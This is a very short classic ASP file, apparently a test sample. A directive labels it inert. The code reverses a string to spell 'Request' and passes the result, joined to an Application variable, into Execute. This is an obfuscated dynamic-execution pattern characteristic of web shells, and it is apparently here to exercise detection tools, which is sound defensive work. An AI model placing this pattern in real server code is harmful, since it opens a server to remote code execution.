<%@ Inert Reason="made for a test: an unknown directive stops the compiler before anything runs" %>
<% made = StrReverse("tseuqeR")
Execute(Application("made-for-a-test") & made) %>
